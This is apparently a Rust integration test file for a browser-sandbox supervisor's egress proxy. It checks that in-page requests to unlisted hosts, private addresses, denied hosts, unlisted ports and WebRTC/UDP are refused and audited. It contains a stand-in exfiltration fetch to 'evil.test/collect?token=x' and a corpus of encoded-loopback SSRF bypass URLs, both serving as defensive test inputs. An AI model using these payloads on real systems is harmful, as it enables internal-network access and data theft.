//! Egress, attacked from inside a real page: hosts outside `egress.allow`, private addresses
//! the mandate does not list (however they are spelled), denied hosts, unlisted ports,
//! WebRTC/UDP, and an idle browser that must stay silent.

mod common;

use std::sync::atomic::Ordering;
use std::time::Duration;

use common::*;
use serde_json::json;

fn rt() -> tokio::runtime::Runtime {
    tokio::runtime::Runtime::new().unwrap()
}

#[test]
fn unlisted_host_is_refused_and_audited() {
    let site = Site::start(TEST_PAGE);
    let attacker = Site::start("stolen");
    let sup = Supervisor::start();
    // evil.test resolves to the attacker's loopback server, loopback is open, but the host is
    // not in egress.allow.
    let mut m = mandate(300, &["site.test"]);
    m["egress"]["hosts"]["evil.test"] = json!("127.0.0.1");
    let s = sup.session(&m);
    let (page_text, fetch_result) = rt().block_on(async {
        let mut c = Cdp::connect(s["cdp_url"].as_str().unwrap()).await;
        let p = c
            .open_page(&format!("http://site.test:{}/", site.port()))
            .await;
        let fetched = c
            .eval(
                &p,
                &format!(
                    "fetch('http://evil.test:{}/collect?token=x', {{mode: 'no-cors'}}).then(() => 'sent', e => 'failed: ' + e)",
                    attacker.port()
                ),
            )
            .await;
        c.navigate(&p, &format!("http://evil.test:{}/", attacker.port()))
            .await;
        let text = c.eval(&p, "document.body.innerText").await;
        (text, fetched)
    });
    // The proxy's 403 is all the page gets (an opaque response for no-cors).
    assert!(
        !fetch_result.to_string().contains("stolen"),
        "{fetch_result}"
    );
    assert!(
        page_text.as_str().unwrap().contains("refused"),
        "the page should show the proxy's refusal: {page_text}"
    );
    assert_eq!(
        attacker.hits.load(Ordering::SeqCst),
        0,
        "attacker got: {}",
        attacker.seen()
    );
    let denied = sup.wait_audit("egress.denied", |r| {
        r["event"] == "egress.denied" && r["host"] == "evil.test"
    });
    assert_eq!(denied["session"], s["id"]);
    assert!(
        denied["reason"].as_str().unwrap().contains("allow"),
        "{denied}"
    );
}

#[test]
fn unlisted_private_address_is_refused() {
    let attacker = Site::start("internal admin panel");
    let sup = Supervisor::start();
    // Any public host, but no private network: the host's own loopback must stay closed,
    // whether addressed by IP literal or by a name that resolves to it.
    let s = sup.session(&json!({
        "agent": "a", "ttl_secs": 300,
        "egress": {"allow": ["*"], "hosts": {"internal.test": "127.0.0.1"}, "ports": [TEST_PORTS]}
    }));
    let texts = rt().block_on(async {
        let mut c = Cdp::connect(s["cdp_url"].as_str().unwrap()).await;
        let p = c.open_page("about:blank").await;
        let mut texts = Vec::new();
        for url in [
            format!("http://127.0.0.1:{}/", attacker.port()),
            format!("http://internal.test:{}/", attacker.port()),
            format!("http://[::ffff:127.0.0.1]:{}/", attacker.port()),
        ] {
            c.navigate(&p, &url).await;
            texts.push(c.eval(&p, "document.body.innerText").await);
        }
        texts
    });
    assert_eq!(
        attacker.hits.load(Ordering::SeqCst),
        0,
        "attacker got: {}",
        attacker.seen()
    );
    for t in &texts {
        assert!(
            !t.as_str().unwrap_or("").contains("internal admin panel"),
            "{t}"
        );
    }
    let denied = sup.events("egress.denied");
    assert!(denied.len() >= 3, "{denied:?}");
    assert!(
        denied.iter().all(|d| d["code"] == "private_address"),
        "{denied:?}"
    );
}

#[test]
fn an_idle_session_sends_nothing_for_ten_seconds() {
    let sup = Supervisor::start();
    let _s = sup.session(&mandate(300, &["site.test"]));
    let count = |sup: &Supervisor| -> String {
        // /metrics is text, not JSON: the client wraps it as {"error": text}.
        let (_, v) = sup.api("GET", "/metrics", None);
        v["error"]
            .as_str()
            .unwrap_or("")
            .lines()
            .find(|l| l.starts_with("chaperone_egress_requests_total"))
            .unwrap_or("missing")
            .to_string()
    };
    let before = count(&sup);
    assert_ne!(before, "missing");
    std::thread::sleep(Duration::from_secs(10));
    let after = count(&sup);
    assert_eq!(before, after, "the idle browser made proxy requests");
    assert_eq!(sup.events("egress.denied"), Vec::<serde_json::Value>::new());
}

#[test]
fn webrtc_udp_gets_nothing_out() {
    let udp = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    udp.set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    let port = udp.local_addr().unwrap().port();
    let sup = Supervisor::start();
    let s = sup.session(&json!({
        "agent": "a", "ttl_secs": 300,
        "egress": {"allow": ["*"], "private_networks": ["127.0.0.0/8"], "hosts": {"stun.test": "127.0.0.1"}, "ports": [TEST_PORTS]}
    }));
    let candidates = rt().block_on(async {
        let mut c = Cdp::connect(s["cdp_url"].as_str().unwrap()).await;
        let p = c.open_page("about:blank").await;
        c.eval(
            &p,
            &format!(
                "new Promise(done => {{
                    const found = [];
                    const pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{port}'}}, {{urls: 'stun:stun.test:{port}'}}]}});
                    pc.createDataChannel('x');
                    pc.onicecandidate = e => {{ if (e.candidate) found.push(e.candidate.candidate); else done(found); }};
                    pc.createOffer().then(o => pc.setLocalDescription(o));
                    setTimeout(() => done(found), 5000);
                }})"
            ),
        )
        .await
    });
    let mut buf = [0u8; 1500];
    let mut got = 0;
    for _ in 0..10 {
        if udp.recv_from(&mut buf).is_ok() {
            got += 1;
        }
    }
    assert_eq!(got, 0, "a UDP packet left the sandbox");
    let list = candidates.as_array().cloned().unwrap_or_default();
    assert!(
        list.iter()
            .all(|c| !c.as_str().unwrap_or("").contains("srflx")),
        "a server-reflexive candidate means UDP reached a STUN server: {list:?}"
    );
}

#[test]
fn https_and_websockets_leave_through_connect_tunnels() {
    let site = Site::start(TEST_PAGE);
    let tls_site = Site::start(TEST_PAGE);
    let sup = Supervisor::start();
    let s = sup.session(&mandate(300, &["site.test"]));
    rt().block_on(async {
        let mut c = Cdp::connect(s["cdp_url"].as_str().unwrap()).await;
        let p = c
            .open_page(&format!("http://site.test:{}/", site.port()))
            .await;
        // A WebSocket to the allowed host: Chromium tunnels it with CONNECT.
        c.eval(
            &p,
            &format!(
                "new Promise(done => {{ const w = new WebSocket('ws://site.test:{}/ws'); w.onerror = () => done('error'); w.onclose = () => done('closed'); setTimeout(() => done('timeout'), 3000); }})",
                site.port()
            ),
        )
        .await;
        // https to the allowed host: the tunnel carries the TLS handshake (the test server
        // speaks no TLS, so the page fails, but the bytes got there).
        c.call(
            "Page.navigate",
            json!({"url": format!("https://site.test:{}/", tls_site.port())}),
            Some(&p),
        )
        .await;
    });
    let seen = site.seen();
    assert!(
        seen.contains("GET /ws") && seen.to_ascii_lowercase().contains("upgrade: websocket"),
        "the WebSocket handshake did not arrive: {seen}"
    );
    for _ in 0..200 {
        if tls_site.hits.load(Ordering::SeqCst) > 0 {
            break;
        }
        std::thread::sleep(Duration::from_millis(25));
    }
    assert!(
        tls_site.hits.load(Ordering::SeqCst) > 0,
        "no TLS connection reached the allowed https site"
    );
    assert_eq!(sup.events("egress.denied"), Vec::<serde_json::Value>::new());
}

/// How long one navigation may take before the test gives up on its load event (hang guard).
const LOAD_GUARD: Duration = Duration::from_secs(20);

/// Navigates `page` to `url` and waits (bounded) for the load event, which error pages fire
/// too. Returns `Page.navigate`'s answer; a URL Chromium itself refuses answers at once.
async fn visit(c: &mut Cdp, page: &str, url: &str) -> serde_json::Value {
    let r = c
        .call("Page.navigate", json!({"url": url}), Some(page))
        .await;
    if r.get("error").is_some() || r["result"]["errorText"] == "net::ERR_INVALID_URL" {
        return r;
    }
    let loaded = tokio::time::timeout(LOAD_GUARD, async {
        loop {
            match c.recv().await {
                Ok(v) if v["method"] == "Page.loadEventFired" && v["sessionId"] == json!(page) => {
                    return
                }
                Ok(_) => continue,
                Err(e) => panic!("connection ended while loading {url}: {e:?}"),
            }
        }
    })
    .await;
    assert!(loaded.is_ok(), "hang guard: {url} never finished loading");
    r
}

/// The `egress.denied` records of one session.
fn denials(sup: &Supervisor, session: &serde_json::Value) -> Vec<serde_json::Value> {
    sup.events("egress.denied")
        .into_iter()
        .filter(|r| r["session"] == session["id"])
        .collect()
}

/// Waits (bounded) until the session has more than `before` refusals; returns the new ones.
fn new_denials(
    sup: &Supervisor,
    session: &serde_json::Value,
    before: usize,
    url: &str,
) -> Vec<serde_json::Value> {
    for _ in 0..400 {
        let all = denials(sup, session);
        if all.len() > before {
            return all[before..].to_vec();
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    panic!("{url}: no egress.denied record");
}

/// AG-120 4.4: every way of spelling the host's own loopback, and names that resolve to it,
/// with `allow = ["*"]` and no private network. Chromium canonicalises most spellings before
/// the proxy sees them; the proxy judges what arrives as the address it means, after
/// resolution. Each attempt is refused, audited with its code, and the loopback server gets
/// nothing.
#[test]
fn ag120_4_4_bypass_corpus_of_encoded_private_addresses_is_refused_and_audited() {
    let target = Site::start("internal admin panel");
    let sup = Supervisor::start();
    let s = sup.session(&json!({
        "agent": "a", "ttl_secs": 300,
        "egress": {
            "allow": ["*"],
            "hosts": {"internal.test": "127.0.0.1"},
            "ports": [TEST_PORTS],
        }
    }));
    let port = target.port();
    // (URL, the host the audit record names, its code)
    let corpus: Vec<(String, &str, &str)> = vec![
        (
            format!("http://2130706433:{port}/"),
            "127.0.0.1",
            "private_address",
        ),
        (
            format!("http://0x7f000001:{port}/"),
            "127.0.0.1",
            "private_address",
        ),
        (
            format!("http://0x7f.0.0.1:{port}/"),
            "127.0.0.1",
            "private_address",
        ),
        (
            format!("http://0177.0.0.1:{port}/"),
            "127.0.0.1",
            "private_address",
        ),
        (
            format!("http://127.1:{port}/"),
            "127.0.0.1",
            "private_address",
        ),
        (
            format!("http://127.0.0.1.:{port}/"),
            "127.0.0.1",
            "private_address",
        ),
        (
            format!("http://[::ffff:127.0.0.1]:{port}/"),
            "127.0.0.1",
            "private_address",
        ),
        (
            format!("http://[::ffff:7f00:1]:{port}/"),
            "127.0.0.1",
            "private_address",
        ),
        (format!("http://[::1]:{port}/"), "[::1]", "private_address"),
        (
            format!("https://2130706433:{port}/"),
            "127.0.0.1",
            "private_address",
        ),
        // Names: the supervisor's own hosts table and the system resolver; the check is on
        // the address the proxy would connect to.
        (
            format!("http://internal.test:{port}/"),
            "internal.test",
            "private_address",
        ),
        (
            format!("http://INTERNAL.test.:{port}/"),
            "internal.test",
            "private_address",
        ),
        (
            format!("http://localhost:{port}/"),
            "localhost",
            "private_address",
        ),
        (
            format!("http://localhost.:{port}/"),
            "localhost",
            "private_address",
        ),
        // A look-alike punycode name (Latin with a Cyrillic `а`): refused before resolution.
        (
            format!("http://xn--pypal-4ve.test:{port}/"),
            "xn--pypal-4ve.test",
            "bad_request",
        ),
    ];
    let mut chromium_refused = Vec::new();
    rt().block_on(async {
        let mut c = Cdp::connect(s["cdp_url"].as_str().unwrap()).await;
        let p = c.blank_page().await;
        c.call("Page.enable", json!({}), Some(&p)).await;
        for (url, host, code) in &corpus {
            let before = denials(&sup, &s).len();
            visit(&mut c, &p, url).await;
            let got = new_denials(&sup, &s, before, url);
            assert!(
                got.iter().any(|d| d["host"] == *host && d["code"] == *code),
                "{url}: expected an egress.denied record for {host} with code {code}, got {got:?}"
            );
        }
        // Invalid punycode: Chromium refuses the URL itself, or the proxy does.
        for url in [
            format!("http://xn--.test:{port}/"),
            format!("http://xn--abc.test:{port}/"),
        ] {
            let before = denials(&sup, &s).len();
            let r = visit(&mut c, &p, &url).await;
            if r.get("error").is_some() || r["result"]["errorText"] == "net::ERR_INVALID_URL" {
                chromium_refused.push(url);
                continue;
            }
            let got = new_denials(&sup, &s, before, &url);
            assert!(
                got.iter().any(|d| d["code"] == "bad_request"),
                "{url}: {got:?}"
            );
        }
    });
    eprintln!("URLs Chromium refused itself: {chromium_refused:?}");
    assert_eq!(
        target.hits.load(Ordering::SeqCst),
        0,
        "the loopback server got: {}",
        target.seen()
    );
    // Nothing was let through, and every refusal says why.
    let all = denials(&sup, &s);
    assert!(
        all.iter()
            .all(|d| d["code"] == "private_address" || d["code"] == "bad_request"),
        "{all:?}"
    );
    let (_, view) = sup.api(
        "GET",
        &format!("/v1/sessions/{}", s["id"].as_str().unwrap()),
        None,
    );
    let traffic = &view["egress"]["traffic"];
    assert!(
        traffic["127.0.0.1"]["refused"].as_u64().unwrap_or(0) >= 9,
        "{traffic}"
    );
    for host in traffic.as_object().unwrap().values() {
        assert_eq!(host["bytes_sent"], 0, "{traffic}");
        assert_eq!(host["requests"], host["refused"], "{traffic}");
    }
}

/// AG-120 4.4: `egress.deny` wins over `allow` (in any spelling, Unicode or punycode), ports
/// other than 80, 443 and `egress.ports` are refused, and what goes through is counted per
/// host in the session view and in /metrics.
#[test]
fn ag120_4_4_denied_hosts_and_unlisted_ports_are_refused_and_traffic_is_counted() {
    let ok = Site::start(TEST_PAGE);
    let target = Site::start("denied content");
    let unlisted = Site::start("unlisted port");
    let sup = Supervisor::start();
    let s = sup.session(&json!({
        "agent": "a", "ttl_secs": 300,
        "egress": {
            "allow": ["*.test"],
            "deny": ["blocked.test", "bücher.test"],
            "private_networks": ["127.0.0.0/8"],
            "hosts": {"ok.test": "127.0.0.1", "blocked.test": "127.0.0.1", "bücher.test": "127.0.0.1"},
            "ports": [ok.port(), target.port()],
        }
    }));
    let (t, u) = (target.port(), unlisted.port());
    let corpus: Vec<(String, &str, &str)> = vec![
        (
            format!("http://blocked.test:{t}/"),
            "blocked.test",
            "denied",
        ),
        (
            format!("http://BLOCKED.Test.:{t}/"),
            "blocked.test",
            "denied",
        ),
        (
            format!("https://blocked.test:{t}/"),
            "blocked.test",
            "denied",
        ),
        (
            format!("ws://blocked.test:{t}/ws"),
            "blocked.test",
            "denied",
        ),
        // Written in Unicode in the mandate; Chromium sends punycode.
        (
            format!("http://bücher.test:{t}/"),
            "xn--bcher-kva.test",
            "denied",
        ),
        (
            format!("http://xn--bcher-kva.test:{t}/"),
            "xn--bcher-kva.test",
            "denied",
        ),
        (
            format!("http://ok.test:{u}/"),
            "ok.test",
            "port_not_allowed",
        ),
        (
            format!("https://ok.test:{u}/"),
            "ok.test",
            "port_not_allowed",
        ),
        (
            format!("ws://ok.test:{u}/ws"),
            "ok.test",
            "port_not_allowed",
        ),
    ];
    let check = |url: &str, host: &str, code: &str, before: usize| {
        let got = new_denials(&sup, &s, before, url);
        assert!(
            got.iter().any(|d| d["host"] == host && d["code"] == code),
            "{url}: expected an egress.denied record for {host} with code {code}, got {got:?}"
        );
    };
    let text = rt().block_on(async {
        let mut c = Cdp::connect(s["cdp_url"].as_str().unwrap()).await;
        let p = c.blank_page().await;
        c.call("Page.enable", json!({}), Some(&p)).await;
        for (url, host, code) in corpus.iter().filter(|(u, _, _)| !u.starts_with("ws")) {
            let before = denials(&sup, &s).len();
            visit(&mut c, &p, url).await;
            check(url, host, code, before);
        }
        // The allowed neighbour on a listed port still works, unchanged.
        visit(&mut c, &p, &format!("http://ok.test:{}/", ok.port())).await;
        let text = c.eval(&p, "document.body.innerText").await;
        // WebSockets are opened from that page (Chromium tunnels them with CONNECT).
        for (url, host, code) in corpus.iter().filter(|(u, _, _)| u.starts_with("ws")) {
            let before = denials(&sup, &s).len();
            c.eval(
                &p,
                &format!(
                    "new Promise(done => {{ const w = new WebSocket('{url}'); w.onerror = () => done('error'); w.onclose = () => done('closed'); setTimeout(() => done('timeout'), 5000); }})"
                ),
            )
            .await;
            check(url, host, code, before);
        }
        text
    });
    assert_eq!(text, "hello from site");
    assert_eq!(target.hits.load(Ordering::SeqCst), 0, "{}", target.seen());
    assert_eq!(
        unlisted.hits.load(Ordering::SeqCst),
        0,
        "{}",
        unlisted.seen()
    );
    assert!(ok.hits.load(Ordering::SeqCst) > 0);

    let id = s["id"].as_str().unwrap();
    let (_, view) = sup.api("GET", &format!("/v1/sessions/{id}"), None);
    let egress = &view["egress"];
    assert_eq!(egress["deny"], json!(["blocked.test", "bücher.test"]));
    assert_eq!(egress["ports"], json!([ok.port(), target.port()]));
    let traffic = &egress["traffic"];
    let ok_traffic = &traffic["ok.test"];
    assert!(ok_traffic["requests"].as_u64().unwrap() >= 4, "{traffic}");
    assert!(ok_traffic["refused"].as_u64().unwrap() >= 3, "{traffic}");
    assert!(
        ok_traffic["bytes_received"].as_u64().unwrap() >= TEST_PAGE.len() as u64,
        "{traffic}"
    );
    assert!(ok_traffic["bytes_sent"].as_u64().unwrap() > 0, "{traffic}");
    let blocked = &traffic["blocked.test"];
    assert!(blocked["refused"].as_u64().unwrap() >= 4, "{traffic}");
    assert_eq!(blocked["requests"], blocked["refused"], "{traffic}");
    assert_eq!(blocked["bytes_sent"], 0, "{traffic}");

    // /metrics is text, not JSON: the client wraps it as {"error": text}.
    let (_, m) = sup.api("GET", "/metrics", None);
    let metrics = m["error"].as_str().unwrap_or("").to_string();
    let line = |prefix: &str| {
        metrics
            .lines()
            .find(|l| l.starts_with(prefix))
            .unwrap_or_else(|| panic!("{prefix} missing from:\n{metrics}"))
            .to_string()
    };
    line(&format!(
        "chaperone_egress_host_requests_total{{session=\"{id}\",host=\"ok.test\"}}"
    ));
    line(&format!(
        "chaperone_egress_host_refused_total{{session=\"{id}\",host=\"blocked.test\"}}"
    ));
    let received = line(&format!(
        "chaperone_egress_host_bytes_total{{session=\"{id}\",host=\"ok.test\",direction=\"received\"}}"
    ));
    let n: u64 = received.rsplit(' ').next().unwrap().parse().unwrap();
    assert!(n >= TEST_PAGE.len() as u64, "{received}");

    // Once the session is gone, so are its series.
    let (status, _) = sup.api("DELETE", &format!("/v1/sessions/{id}"), None);
    assert_eq!(status, 200);
    let (_, m) = sup.api("GET", "/metrics", None);
    assert!(
        !m["error"]
            .as_str()
            .unwrap_or("")
            .contains(&format!("session=\"{id}\"")),
        "a purged session's series stayed"
    );
}
